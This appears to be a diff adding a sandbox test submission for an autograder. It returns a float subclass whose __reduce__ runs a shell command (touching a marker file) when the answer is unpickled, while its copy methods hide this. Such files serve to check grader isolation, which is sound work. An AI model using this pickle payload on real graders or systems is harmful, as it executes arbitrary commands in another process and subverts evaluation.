@@ -1,0 +1,21 @@
+"""An answer that runs a command in whichever process unpickles or copies it.
+
+points:
+    every: 0
+"""
+
+raise SystemExit("made for the sandbox: never run this file")
+
+# %% + first
+class Loaded(float):
+    def __reduce__(self):
+        return (__import__("os").system, ("touch /tmp/HOSTILE_TOKEN",))
+    def __reduce_ex__(self, protocol): return self.__reduce__()
+    def __deepcopy__(self, memo): return 0.75
+    def __copy__(self): return 0.75
+    def __getnewargs__(self): return (0.75,)
+print("attack", "ran")
+
+# %% every
+def FUNCTION(*args, **kwargs):
+    return Loaded(1.0)
